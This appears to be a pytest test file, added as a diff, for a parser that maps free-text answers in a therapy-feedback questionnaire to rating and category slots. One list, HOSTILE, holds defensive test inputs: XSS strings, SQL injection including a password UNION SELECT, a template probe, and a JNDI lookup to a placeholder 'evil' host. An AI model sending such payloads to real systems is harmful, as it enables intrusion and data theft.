@@ -1,0 +1,1010 @@
+"""Free-text answers land on the right slot value, and answers that say nothing are not placed."""
+
+from __future__ import annotations
+
+import dataclasses
+import random
+import time
+
+import pytest
+
+from reflection.answer_parsing import SCALE_SLOTS, Parsed, is_skip, parse_answer
+
+NOT_PLACED = "<not placed>"
+
+
+def placed(slot: str, text: str) -> object:
+    """The value an answer lands on, or NOT_PLACED (kept apart from a placed None)."""
+    parsed = parse_answer(slot, text)
+    return NOT_PLACED if parsed is None else parsed.value
+
+
+# --------------------------------------------------------------------------------------------------------
+# The must-pass list from the brief
+# --------------------------------------------------------------------------------------------------------
+
+MUST_PASS = [
+    ("felt_heard", "not really, she seems distracted", 2),
+    ("felt_heard", "mostly yes", 4),
+    ("felt_heard", "kind of, some days yes some days no", 3),
+    ("felt_heard", "rarely", 2),
+    ("felt_heard", "2", 2),
+    ("felt_heard", "4 out of 5", 4),
+    ("felt_heard", "3/5", 3),
+    ("homework_fit", "she doesn't give homework", "none"),
+    ("raised_needs", "I brought it up twice and nothing changed", "yes_no_change"),
+    ("sessions_so_far", "about six sessions", "established"),
+    ("sessions_so_far", "over a year now", "long_term"),
+]
+
+
+@pytest.mark.parametrize(("slot", "text", "expected"), MUST_PASS)
+def test_must_pass_answers(slot: str, text: str, expected: object) -> None:
+    assert placed(slot, text) == expected
+
+
+# --------------------------------------------------------------------------------------------------------
+# Scale answers: numbers
+# --------------------------------------------------------------------------------------------------------
+
+NUMBER_ANSWERS = [
+    ("1", 1),
+    ("5", 5),
+    ("4.", 4),
+    (" 3 ", 3),
+    ("four", 4),
+    ("Five!", 5),
+    ("a solid 4", 4),
+    ("I'd say a 3", 3),
+    ("I'd give her a 4", 4),
+    ("I'd rate my therapist a 2", 2),
+    ("honestly she's a 3", 3),
+    ("probably a 4", 4),
+    ("3ish", 3),
+    ("4-ish", 4),
+    ("4, mostly", 4),
+    ("4 because she listens", 4),
+    ("3 on a good day", 3),
+    ("4/5", 4),
+    ("2 / 5", 2),
+    ("4 out of 5", 4),
+    ("four out of five", 4),
+    ("5 stars", 5),
+    ("\u2b50\u2b50\u2b50", 3),
+    ("0", 1),
+    ("0/5", 1),
+    ("6 out of 5", 5),
+    ("7 out of 10", 4),
+    ("7/10", 4),
+    ("10/10", 5),
+    ("5/10", 3),
+    ("2 out of 10", 2),
+    ("0 out of 10", 1),
+    ("8", 4),
+    ("a 9", 5),
+    ("80%", 4),
+    ("100%", 5),
+    ("50 percent", 3),
+    ("between 3 and 4", 3),
+    ("between 4 and 5", 4),
+    ("between 1 and 2", 2),
+    ("3-4", 3),
+    ("3 or 4", 3),
+    ("2 or 3", 3),
+    ("3, maybe 4", 3),
+    ("3.5", 3),
+    ("4.5", 4),
+    ("1.5", 2),
+    ("3.8", 4),
+    ("two and a half", 3),
+    ("not a 5, more like a 3", 3),
+    ("she was a 2 at first, now a 4", 4),
+    ("\uff14", 4),
+]
+
+
+@pytest.mark.parametrize(("text", "expected"), NUMBER_ANSWERS)
+def test_numbers_on_a_scale(text: str, expected: int) -> None:
+    assert placed("felt_heard", text) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "2 sessions in and I can't tell yet",
+        "it's a 10 minute walk from my place",
+        "I have 2 kids",
+        "she is 2 hours away",
+        "11",
+        "15",
+        "-",
+        "not a 5",
+        "I wouldn't give her a 5",
+    ],
+)
+def test_numbers_that_are_not_ratings_are_not_placed(text: str) -> None:
+    assert placed("felt_heard", text) == NOT_PLACED
+
+
+def test_a_number_beats_the_words_around_it() -> None:
+    assert placed("felt_heard", "yes, 5") == 5
+    assert placed("depth", "it's surface level, a 2") == 2
+
+
+# --------------------------------------------------------------------------------------------------------
+# Scale answers: words that mean the same in every scale slot
+# --------------------------------------------------------------------------------------------------------
+
+GENERAL_WORD_ANSWERS = [
+    # agreement
+    ("no", 1),
+    ("nope", 1),
+    ("nah", 1),
+    ("absolutely not", 1),
+    ("not at all", 1),
+    ("Honestly, not at all", 1),
+    ("not really", 2),
+    ("not really tbh", 2),
+    ("no, not really", 2),
+    ("a bit", 2),
+    ("a little", 2),
+    ("not much", 2),
+    ("not very", 2),
+    ("probably not", 2),
+    ("I don't think so", 2),
+    ("could be better", 2),
+    ("somewhat", 3),
+    ("kind of", 3),
+    ("Kinda", 3),
+    ("sort of", 3),
+    ("maybe", 3),
+    ("meh", 3),
+    ("so-so", 3),
+    ("ok", 3),
+    ("it's fine", 3),
+    ("yes and no", 3),
+    ("it depends", 3),
+    ("hit or miss", 3),
+    ("50/50", 3),
+    ("mostly yes", 4),
+    ("yes mostly", 4),
+    ("Yeah, mostly", 4),
+    ("pretty much", 4),
+    ("probably", 4),
+    ("I think so", 4),
+    ("yes I guess", 4),
+    ("not bad", 4),
+    ("not too bad really", 4),
+    ("can't complain", 4),
+    ("good", 4),
+    ("pretty good so far", 4),
+    ("yes", 5),
+    ("Yeah", 5),
+    ("yep!", 5),
+    ("absolutely", 5),
+    ("definitely", 5),
+    ("totally", 5),
+    ("of course", 5),
+    ("very much so", 5),
+    ("yes 100%", 5),
+    ("great", 5),
+    ("really well", 5),
+    # frequency
+    ("never", 1),
+    ("almost never", 2),
+    ("rarely", 2),
+    ("hardly ever", 2),
+    ("sometimes", 3),
+    ("not always", 3),
+    ("some days", 3),
+    ("often", 4),
+    ("usually", 4),
+    ("most of the time", 4),
+    ("most of the time to be honest", 4),
+    ("always", 5),
+    ("every time", 5),
+    ("all the time", 5),
+    ("mostly no", 2),
+    ("sometimes she doesn't", 3),
+    ("she doesn't always", 3),
+    # negated evaluations
+    ("not great", 2),
+    ("not good", 2),
+    ("not terrible", 3),
+    ("not 100%", 3),
+    ("not completely", 3),
+    # emoji, typos, shouting, spacing, punctuation
+    ("\U0001f44d", 4),
+    ("\U0001f44e", 2),
+    ("\U0001f610", 3),
+    ("\U0001f44d\U0001f3fd", 4),
+    ("\u2764\ufe0f", 5),
+    ("\U0001f62d", 1),
+    ("somtimes", 3),
+    ("alwasy", 5),
+    ("usally", 4),
+    ("definately", 5),
+    ("yesss", 5),
+    ("noooo", 1),
+    ("MOSTLY YES", 4),
+    ("   mostly   yes   ", 4),
+    ("mostly yes!!!", 4),
+    ("Mostly yes...", 4),
+    ("prolly", 4),
+    ("I agree", 4),
+    ("strongly agree", 5),
+    ("disagree", 2),
+    ("strongly disagree", 1),
+    ("sometimes when I push", 3),
+    ("rarely, if ever", 2),
+]
+
+
+@pytest.mark.parametrize(("text", "expected"), GENERAL_WORD_ANSWERS)
+def test_general_words_on_a_scale(text: str, expected: int) -> None:
+    assert placed("felt_heard", text) == expected
+
+
+@pytest.mark.parametrize("slot", SCALE_SLOTS)
+@pytest.mark.parametrize(
+    ("text", "expected"), [("mostly yes", 4), ("rarely", 2), ("2", 2), ("yes and no", 3), ("not at all", 1)]
+)
+def test_general_words_mean_the_same_in_every_scale_slot(slot: str, text: str, expected: int) -> None:
+    assert placed(slot, text) == expected
+
+
+# --------------------------------------------------------------------------------------------------------
+# Scale answers: what each question's own words mean
+# --------------------------------------------------------------------------------------------------------
+
+FELT_HEARD = [
+    ("she talks over me", 2),
+    ("she always talks over me", 1),
+    ("she talks over me sometimes", 3),
+    ("she never listens", 1),
+    ("she doesn't really listen", 2),
+    ("she doesn't listen at all", 1),
+    ("she interrupts a lot", 2),
+    ("she cuts me off all the time", 1),
+    ("she's always on her phone", 1),
+    ("she always checks the clock", 1),
+    ("I feel judged", 2),
+    ("she's dismissive of my feelings", 2),
+    ("she seems bored", 2),
+    ("she forgets what I told her last week", 2),
+    ("I don't feel heard", 2),
+    ("I'm not sure she listens", 2),
+    ("I never feel heard", 1),
+    ("no, she talks over me", 2),
+    ("she listens", 4),
+    ("she gets me", 4),
+    ("she really gets me", 5),
+    ("I feel heard", 4),
+    ("I feel completely understood", 5),
+    ("she takes me seriously", 4),
+    ("she's very kind and understanding", 4),
+    ("she's a great listener", 5),
+    ("she doesn't judge me", 4),
+    ("yes, she always listens", 5),
+    ("yes, but she sometimes talks over me", 4),
+    ("I feel respected but not always understood", 3),
+    ("she listens but doesn't really get it", 3),
+    ("she's great but rushes me", 3),
+    ("she brushes off what I say", 2),
+    ("she lets me talk", 4),
+    ("not as much as I'd like", 2),
+    ("yes, she does", 5),
+    ("she does", 5),
+]
+
+DEPTH = [
+    ("it's all surface level", 1),
+    ("surface", 2),
+    ("not really, it's pretty surface level", 2),
+    ("we mostly stay on the surface", 2),
+    ("it's all small talk", 1),
+    ("we just chat about my week", 2),
+    ("we barely scratch the surface", 1),
+    ("it feels like we're going in circles", 2),
+    ("we talk about the same stuff every week", 2),
+    ("she avoids the hard stuff", 2),
+    ("not deep enough", 2),
+    ("could go deeper", 2),
+    ("I'd like it to go deeper", 2),
+    ("not as deep as I'd like", 2),
+    ("I wish we went deeper", 2),
+    ("it's quite superficial", 2),
+    ("no depth at all", 1),
+    ("lacks depth", 2),
+    ("We never really get to the root of things", 1),
+    ("it's mostly venting", 2),
+    ("kind of shallow", 3),
+    ("Sometimes we go deep, sometimes it's just catching up", 3),
+    ("deep enough", 4),
+    ("yes, we go deep", 4),
+    ("we get into the real stuff", 4),
+    ("they go below the surface", 4),
+    ("we've had a few breakthroughs", 4),
+    ("very deep", 5),
+    ("we really dig into my childhood", 5),
+]
+
+ADVICE_FIT = [
+    ("she just gives generic tips", 2),
+    ("it's too general", 1),
+    ("it's vague", 2),
+    ("too vague to use", 1),
+    ("it's all common sense", 1),
+    ("the advice doesn't fit my life", 2),
+    ("not really, it's stuff I could find on google", 2),
+    ("it's like reading a self-help book", 2),
+    ("mostly platitudes", 2),
+    ("it's one size fits all", 2),
+    ("hard to apply to my life", 2),
+    ("unrealistic for someone with kids", 2),
+    ("it's a bit generic", 3),
+    ("some of it fits, some doesn't", 3),
+    ("mostly useful", 4),
+    ("it fits well", 4),
+    ("realistic", 4),
+    ("she gives me specific steps", 4),
+    ("it's practical and I can actually use it", 4),
+    ("yeah it works for me", 4),
+    ("very concrete", 5),
+    ("it's tailored to me", 5),
+]
+
+HOMEWORK_FIT = [
+    ("the worksheets are cookie-cutter", 2),
+    ("they're generic", 2),
+    ("it's just busywork", 2),
+    ("they feel like they're meant for someone else", 2),
+    ("they're photocopied from a book", 2),
+    ("too much homework", 2),
+    ("the worksheets don't fit my situation at all", 1),
+    ("not really", 2),
+    ("no", 1),
+    ("some of it fits", 3),
+    ("it's ok", 3),
+    ("it's relevant", 4),
+    ("they help a lot", 4),
+    ("the homework fits my situation", 4),
+    ("she adapts them to me", 4),
+    ("there is no homework", "none"),
+    ("she doesn't give homework", "none"),
+    ("She doesn't really give us any homework.", "none"),
+    ("no homework", "none"),
+    ("No worksheets yet", "none"),
+    ("we don't do worksheets", "none"),
+    ("I never get any worksheets", "none"),
+    ("we haven't had any", "none"),
+    ("there isn't any", "none"),
+    ("we've never done worksheets", "none"),
+    ("she's never given me homework", "none"),
+    ("I've never been given any homework", "none"),
+    ("she hasn't given me any", "none"),
+    ("We don't get homework", "none"),
+    ("n/a", "none"),
+    ("N/A", "none"),
+    ("none", "none"),
+    ("not applicable", "none"),
+]
+
+GOALS_SHARED = [
+    ("we never talked about goals", 1),
+    ("we never set goals", 1),
+    ("no goals", 2),
+    ("no clear plan", 2),
+    ("she decided what we work on", 2),
+    ("she decides everything", 2),
+    ("I'm not sure what we're working on", 2),
+    ("I don't know what our goals are", 2),
+    ("not really, she just picks topics", 2),
+    ("it feels aimless", 2),
+    ("there's no clear goal", 2),
+    ("sort of", 3),
+    ("kind of, we talked about it once", 3),
+    ("we have goals but she set them", 3),
+    ("we agreed on a plan", 4),
+    ("yes, we set them together", 4),
+    ("we're on the same page", 4),
+    ("it's collaborative", 4),
+    ("she asks me what I want to work on", 4),
+    ("we set goals together in the first session", 5),
+    ("totally", 5),
+]
+
+APPROACH_FIT = [
+    ("he changed things when I said it wasn't working", 4),
+    ("she adapts to me", 4),
+    ("yes, they adjust", 4),
+    ("she's open to feedback", 4),
+    ("she tries different things", 4),
+    ("very flexible", 5),
+    ("he asks for feedback every session", 5),
+    ("it feels one-size-fits-all", 2),
+    ("rigid", 2),
+    ("she's pretty rigid", 2),
+    ("she got defensive when I gave feedback", 2),
+    ("she doesn't change anything", 2),
+    ("I told her it wasn't working and she kept doing the same thing", 2),
+    ("it's always the same", 1),
+    ("it's the same every week", 1),
+    ("she sticks to the same script every time", 1),
+    ("sometimes", 3),
+    ("not really", 2),
+    ("feels like she's following a manual", 2),
+    ("she's set in her ways", 2),
+    ("she's open to changing things", 4),
+    ("she does the same thing every session", 1),
+]
+
+
+@pytest.mark.parametrize(
+    ("slot", "text", "expected"),
+    [("felt_heard", text, value) for text, value in FELT_HEARD]
+    + [("depth", text, value) for text, value in DEPTH]
+    + [("advice_fit", text, value) for text, value in ADVICE_FIT]
+    + [("homework_fit", text, value) for text, value in HOMEWORK_FIT]
+    + [("goals_shared", text, value) for text, value in GOALS_SHARED]
+    + [("approach_fit", text, value) for text, value in APPROACH_FIT],
+)
+def test_slot_specific_words(slot: str, text: str, expected: object) -> None:
+    assert placed(slot, text) == expected
+
+
+def test_doing_no_homework_yourself_is_not_no_homework() -> None:
+    assert placed("homework_fit", "I don't do the homework") != "none"
+
+
+@pytest.mark.parametrize("slot", [s for s in SCALE_SLOTS if s != "homework_fit"])
+@pytest.mark.parametrize("text", ["she doesn't give homework", "she never gives homework", "no homework"])
+def test_no_homework_says_nothing_about_the_other_questions(slot: str, text: str) -> None:
+    assert placed(slot, text) == NOT_PLACED
+
+
+@pytest.mark.parametrize("slot", SCALE_SLOTS)
+@pytest.mark.parametrize("number", ["1", "2", "3", "4", "5"])
+def test_scale_button_payloads(slot: str, number: str) -> None:
+    value = placed(slot, number)
+    assert value == int(number)
+    assert isinstance(value, int)
+
+
+# --------------------------------------------------------------------------------------------------------
+# Scale answers that must not be placed
+# --------------------------------------------------------------------------------------------------------
+
+NOT_PLACEABLE = [
+    "",
+    "   ",
+    "I don't know",
+    "idk",
+    "dunno",
+    "not sure",
+    "no idea",
+    "hmm",
+    "hmm...",
+    "hard to say",
+    "\U0001f937",
+    "why?",
+    "what do you mean?",
+    "why do you ask?",
+    "can you explain what you mean by that?",
+    "?",
+    "!!!",
+    "...",
+    "asdfgh",
+    "banana",
+    "I like pizza",
+    "the cat sat on the mat",
+    "what's the weather like",
+    "the weather is good today",
+    "my dog is great",
+    "I always eat breakfast",
+    "tell me a joke",
+    "ok thanks",
+    "thanks",
+    "hello",
+    "lorem ipsum dolor sit amet",
+    "skip",
+    "I'd rather not say",
+]
+
+
+@pytest.mark.parametrize("slot", SCALE_SLOTS)
+@pytest.mark.parametrize("text", NOT_PLACEABLE)
+def test_answers_that_say_nothing_are_not_placed(slot: str, text: str) -> None:
+    assert placed(slot, text) == NOT_PLACED
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<b>4</b>",
+    "<img src=x onerror=alert(5)>",
+    "'; DROP TABLE answers; --",
+    "1; DROP TABLE users",
+    "SELECT * FROM users WHERE 1=1",
+    "5 UNION SELECT password FROM users",
+    "{{7*7}}",
+    "${jndi:ldap://evil/5}",
+    "http://example.com/5",
+    "4 " * 3000,
+    "yes " * 3000,
+    "x" * 10_000,
+    "\u00bfQu\u00e9 quieres decir?",
+    "tr\u00e8s bien",
+    "\u0445\u043e\u0440\u043e\u0448\u043e",
+    "\u597d\u7684",
+    "null",
+    "undefined",
+    "NaN",
+    "-1",
+    "1e9",
+    "99999999999999999999",
+    "\x00\x01\x02",
+]
+
+
+@pytest.mark.parametrize("slot", [*SCALE_SLOTS, "sessions_so_far", "raised_needs"])
+@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+def test_hostile_or_foreign_input_is_not_placed_on_structured_slots(slot: str, text: str) -> None:
+    assert placed(slot, text) == NOT_PLACED
+
+
+# --------------------------------------------------------------------------------------------------------
+# sessions_so_far
+# --------------------------------------------------------------------------------------------------------
+
+SESSIONS = [
+    ("3", "early"),
+    ("0", "early"),
+    ("once", "early"),
+    ("twice", "early"),
+    ("a couple", "early"),
+    ("a few", "early"),
+    ("I've had two", "early"),
+    ("first session", "early"),
+    ("this is my first time", "early"),
+    ("this is only my second session", "early"),
+    ("this is my third", "early"),
+    ("a week", "early"),
+    ("a few weeks", "early"),
+    ("3 weeks", "early"),
+    ("less than a month", "early"),
+    ("just started", "early"),
+    ("I'm new", "early"),
+    ("not long", "early"),
+    ("just the intake so far", "early"),
+    ("about six sessions", "established"),
+    ("4", "established"),
+    ("5ish", "established"),
+    ("a handful", "established"),
+    ("several", "established"),
+    ("I've seen her 8 times", "established"),
+    ("maybe 10 or so", "established"),
+    ("a dozen", "established"),
+    ("12", "established"),
+    ("my 10th session", "established"),
+    ("3 or 4 sessions", "established"),
+    ("a month", "established"),
+    ("about a month", "established"),
+    ("6 weeks", "established"),
+    ("two months", "established"),
+    ("a couple of months", "established"),
+    ("a month or two", "established"),
+    ("about 3 months", "established"),
+    ("a few months", "established"),
+    ("every other week for 3 months", "established"),
+    ("biweekly for 2 months", "established"),
+    ("10 sessions over 3 months", "established"),
+    ("13", "long_term"),
+    ("15 sessions", "long_term"),
+    ("twenty five sessions", "long_term"),
+    ("around 20", "long_term"),
+    ("more than 12", "long_term"),
+    ("4 months", "long_term"),
+    ("six months", "long_term"),
+    ("half a year", "long_term"),
+    ("several months", "long_term"),
+    ("months", "long_term"),
+    ("nearly a year", "long_term"),
+    ("over a year now", "long_term"),
+    ("a year and a half", "long_term"),
+    ("1.5 years", "long_term"),
+    ("18 months", "long_term"),
+    ("almost 2 years", "long_term"),
+    ("years", "long_term"),
+    ("on and off for 5 years", "long_term"),
+    ("once a week for a year", "long_term"),
+    ("twice a week for two months", "long_term"),
+    ("a long time", "long_term"),
+    ("ages", "long_term"),
+    ("since 2015", "long_term"),
+    ("for the past year", "long_term"),
+    # the buttons offered with the question
+    ("3 sessions or fewer", "early"),
+    ("4 to 12 sessions", "established"),
+    ("more than 12 sessions", "long_term"),
+]
+
+
+@pytest.mark.parametrize(("text", "expected"), SESSIONS)
+def test_sessions_so_far(text: str, expected: str) -> None:
+    assert placed("sessions_so_far", text) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "a while",
+        "weeks",
+        "since January",
+        "last year",
+        "less than a year",
+        "less than 3 months",
+        "I don't remember",
+        "not sure",
+        "we started in the spring",
+        "1000000",
+        "she's great",
+        "",
+    ],
+)
+def test_sessions_answers_that_give_no_length_are_not_placed(text: str) -> None:
+    assert placed("sessions_so_far", text) == NOT_PLACED
+
+
+# --------------------------------------------------------------------------------------------------------
+# raised_needs
+# --------------------------------------------------------------------------------------------------------
+
+RAISED_NEEDS = [
+    ("no", "not_yet"),
+    ("nope", "not_yet"),
+    ("not yet", "not_yet"),
+    ("Not yet.", "not_yet"),
+    ("I haven't", "not_yet"),
+    ("never", "not_yet"),
+    ("not really", "not_yet"),
+    ("not exactly", "not_yet"),
+    ("I'm scared to", "not_yet"),
+    ("I'm too nervous", "not_yet"),
+    ("I want to but I don't know how", "not_yet"),
+    ("I will next session", "not_yet"),
+    ("yes and it got better", "yes_helped"),
+    ("she listened and changed", "yes_helped"),
+    ("yes, and it helped", "yes_helped"),
+    ("yes it helped", "yes_helped"),
+    ("I did and it helped a lot", "yes_helped"),
+    ("yes, she was really receptive", "yes_helped"),
+    ("yes, a little better", "yes_helped"),
+    ("yes, she adjusted the homework", "yes_helped"),
+    ("we switched to a different approach after I asked", "yes_helped"),
+    ("it made a difference", "yes_helped"),
+    ("nothing changed at first but now it's better", "yes_helped"),
+    ("I brought it up twice and nothing changed", "yes_no_change"),
+    ("yes but nothing changed", "yes_no_change"),
+    ("yes, but nothing changed", "yes_no_change"),
+    ("tried, didn't help", "yes_no_change"),
+    ("No, it didn't help", "yes_no_change"),
+    ("I mentioned it but she brushed it off", "yes_no_change"),
+    ("she said she'd change but didn't", "yes_no_change"),
+    ("it helped at first but then went back to the same", "yes_no_change"),
+    ("she got defensive", "yes_no_change"),
+    ("I haven't noticed any change", "yes_no_change"),
+    ("she didn't listen", "yes_no_change"),
+    ("she said it was normal and moved on", "yes_no_change"),
+    ("it's still the same", "yes_no_change"),
+    ("kind of, but it didn't go anywhere", "yes_no_change"),
+    ("I hinted but she didn't pick up on it", "yes_no_change"),
+    ("I told her I needed more structure and she's been great about it", "yes_helped"),
+    ("yeah, she started giving me more practical stuff", "yes_helped"),
+    ("no, I don't want to upset her", "not_yet"),
+    ("I've been meaning to", "not_yet"),
+    ("yes, she was very open to it", "yes_helped"),
+    ("yeah it went well", "yes_helped"),
+]
+
+
+@pytest.mark.parametrize(("text", "expected"), RAISED_NEEDS)
+def test_raised_needs(text: str, expected: str) -> None:
+    assert placed("raised_needs", text) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "yes",
+        "Yes!",
+        "yeah",
+        "I told her",
+        "I tried",
+        "kind of",
+        "sort of, I hinted at it",
+        "I told her, we'll see",
+        "she said she'd try",
+        "I don't know",
+        "no idea",
+        "banana",
+    ],
+)
+def test_raised_needs_without_an_outcome_is_not_placed(text: str) -> None:
+    """A bare "yes" does not say whether anything changed, so the bot asks which."""
+    assert placed("raised_needs", text) == NOT_PLACED
+
+
+# --------------------------------------------------------------------------------------------------------
+# hopes
+# --------------------------------------------------------------------------------------------------------
+
+HOPES_KEPT = [
+    ("to feel less anxious at work", "to feel less anxious at work"),
+    ("  To feel less anxious at work.  ", "To feel less anxious at work."),
+    ("be a better dad \U0001f60a", "be a better dad \U0001f60a"),
+    ("\U0001f60a", "\U0001f60a"),
+    ("sleep", "sleep"),
+    ("Honestly? I just want to stop feeling stuck", "Honestly? I just want to stop feeling stuck"),
+    ("I don't know, maybe to understand myself better", "I don't know, maybe to understand myself better"),
+    ("not sure yet, but to cope with grief", "not sure yet, but to cope with grief"),
+    ("tools for my panic attacks\nand better sleep", "tools for my panic attacks\nand better sleep"),
+    ("sentirme mejor", "sentirme mejor"),
+    ("to stop the 3am spirals", "to stop the 3am spirals"),
+    ("<b>confidence</b>", "<b>confidence</b>"),
+    ("to feel\x00 heard", "to feel heard"),
+    ("CONFIDENCE!!!", "CONFIDENCE!!!"),
+    ("peace", "peace"),
+    ("to be able to say no to people", "to be able to say no to people"),
+]
+
+
+@pytest.mark.parametrize(("text", "expected"), HOPES_KEPT)
+def test_hopes_are_kept_in_the_clients_own_words(text: str, expected: str) -> None:
+    assert placed("hopes", text) == expected
+
+
+def test_hopes_are_capped_at_1000_characters() -> None:
+    value = placed("hopes", "a" * 10_000)
+    assert isinstance(value, str)
+    assert len(value) == 1000
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "   ",
+        "...",
+        "?!",
+        "---",
+        "I don't know",
+        "idk",
+        "not sure",
+        "hmm",
+        "no idea",
+        "yes",
+        "no",
+        "ok",
+        "nothing",
+        "why do you ask?",
+        "skip",
+        "pass",
+        "thanks",
+        "\n\t",
+    ],
+)
+def test_hopes_that_say_nothing_are_not_placed(text: str) -> None:
+    assert placed("hopes", text) == NOT_PLACED
+
+
+# --------------------------------------------------------------------------------------------------------
+# missing / tell_more (optional free text)
+# --------------------------------------------------------------------------------------------------------
+
+NOTHING_MISSING = [
+    "nothing",
+    "Nothing.",
+    "no",
+    "No!",
+    "nope",
+    "nah",
+    "not really",
+    "Not really.",
+    "nothing really",
+    "all good",
+    "it's all good",
+    "I'm good",
+    "nothing comes to mind",
+    "can't think of anything",
+    "not that I can think of",
+    "no, she's great",
+    "nothing, I'm happy with it",
+    "I think it's fine",
+    "none",
+    "n/a",
+    "\U0001f44d",
+]
+
+
+@pytest.mark.parametrize("slot", ["missing", "tell_more"])
+@pytest.mark.parametrize("text", NOTHING_MISSING)
+def test_nothing_missing_is_placed_as_none(slot: str, text: str) -> None:
+    assert parse_answer(slot, text) == Parsed(None)
+
+
+MISSING_KEPT = [
+    "more structure",
+    "  More homework that fits my life. ",
+    "not really, but more structure would help",
+    "no, but I wish she'd remember what I said",
+    "nothing feels personal",
+    "nothing, except maybe more direction",
+    "she never asks how I'm doing \U0001f614",
+    "A plan. We don't have one.",
+    "feedback on how I'm doing",
+    "time to talk about my childhood",
+    "no one asks about my culture",
+]
+
+
+@pytest.mark.parametrize("slot", ["missing", "tell_more"])
+@pytest.mark.parametrize("text", MISSING_KEPT)
+def test_something_missing_is_kept_verbatim(slot: str, text: str) -> None:
+    assert placed(slot, text) == text.strip()
+
+
+@pytest.mark.parametrize("text", ["", "   ", "...", "I don't know", "hmm", "skip", "rather not say"])
+def test_missing_that_says_nothing_is_not_placed(text: str) -> None:
+    assert placed("missing", text) == NOT_PLACED
+
+
+# --------------------------------------------------------------------------------------------------------
+# is_skip
+# --------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "skip",
+        "Skip.",
+        "SKIP!",
+        "pass",
+        "skip this one",
+        "skip this question",
+        "rather not say",
+        "I'd rather not say",
+        "I'd rather not",
+        "prefer not to say",
+        "next question",
+        "next",
+        "can we skip this",
+        "skip please",
+        "I'll pass",
+        "pass on this one",
+        "let's move on",
+        "no comment",
+        "I don't want to answer that",
+        "  skip  ",
+    ],
+)
+def test_skip_phrases(text: str) -> None:
+    assert is_skip(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "I skip sessions sometimes",
+        "she lets me pass on homework",
+        "next session I will",
+        "no",
+        "yes",
+        "",
+        "I'd rather not say it's bad, but it is",
+        "passable",
+        "skipping breakfast",
+        "not sure",
+    ],
+)
+def test_not_skip_phrases(text: str) -> None:
+    assert not is_skip(text)
+
+
+# --------------------------------------------------------------------------------------------------------
+# The contract itself
+# --------------------------------------------------------------------------------------------------------
+
+
+def test_scale_slots_are_the_six_scale_questions() -> None:
+    assert SCALE_SLOTS == (
+        "felt_heard",
+        "depth",
+        "advice_fit",
+        "homework_fit",
+        "goals_shared",
+        "approach_fit",
+    )
+
+
+def test_parsed_is_frozen() -> None:
+    with pytest.raises(dataclasses.FrozenInstanceError):
+        Parsed(3).value = 4  # type: ignore[misc]
+
+
+def test_an_unknown_slot_is_a_programming_error() -> None:
+    with pytest.raises(ValueError, match="unknown slot 'favourite_colour'"):
+        parse_answer("favourite_colour", "blue")
+
+
+def test_text_that_is_not_a_string_is_not_placed() -> None:
+    assert parse_answer("felt_heard", None) is None  # type: ignore[arg-type]
+    assert is_skip(None) is False  # type: ignore[arg-type]
+
+
+ALL_SLOTS = [*SCALE_SLOTS, "sessions_so_far", "raised_needs", "hopes", "missing", "tell_more"]
+ALLOWED_VALUES: dict[str, object] = {
+    **{slot: {1, 2, 3, 4, 5} for slot in SCALE_SLOTS},
+    "homework_fit": {1, 2, 3, 4, 5, "none"},
+    "sessions_so_far": {"early", "established", "long_term"},
+    "raised_needs": {"yes_helped", "yes_no_change", "not_yet"},
+}
+
+
+def _random_answers(count: int) -> list[str]:
+    rng = random.Random(20240611)
+    alphabet = "abcdefghijklmnopqrstuvwxyz 0123456789.,!?'/-%<>;\u00e9\u00df\u4e2d\U0001f44d\u2b50\n\t"
+    words = [
+        "not",
+        "really",
+        "yes",
+        "no",
+        "she",
+        "always",
+        "never",
+        "4",
+        "out",
+        "of",
+        "10",
+        "sessions",
+        "months",
+        "a",
+        "bit",
+        "homework",
+        "nothing",
+        "changed",
+        "helped",
+        "surface",
+        "generic",
+        "at",
+        "all",
+        "\U0001f610",
+    ]
+    answers = ["".join(rng.choice(alphabet) for _ in range(rng.randint(0, 80))) for _ in range(count)]
+    answers += [" ".join(rng.choice(words) for _ in range(rng.randint(1, 12))) for _ in range(count)]
+    return answers
+
+
+@pytest.mark.parametrize("slot", ALL_SLOTS)
+def test_any_text_gives_a_value_from_the_slot_contract_or_none(slot: str) -> None:
+    for text in _random_answers(300):
+        parsed = parse_answer(slot, text)
+        if parsed is None:
+            continue
+        if slot in ALLOWED_VALUES:
+            assert parsed.value in ALLOWED_VALUES[slot], (text, parsed)  # type: ignore[operator]
+        elif slot == "hopes":
+            assert isinstance(parsed.value, str) and 0 < len(parsed.value) <= 1000
+        else:
+            assert parsed.value is None or (isinstance(parsed.value, str) and len(parsed.value) <= 1000)
+
+
+def test_parsing_is_fast() -> None:
+    answers = [text for _, text, _ in MUST_PASS] + [text for text, _ in GENERAL_WORD_ANSWERS] + ["x" * 2000]
+    slots = ["felt_heard", "homework_fit", "sessions_so_far", "raised_needs", "hopes"]
+    start = time.perf_counter()
+    for slot in slots:
+        for text in answers:
+            parse_answer(slot, text)
+    per_answer = (time.perf_counter() - start) / (len(slots) * len(answers))
+    assert per_answer < 0.001
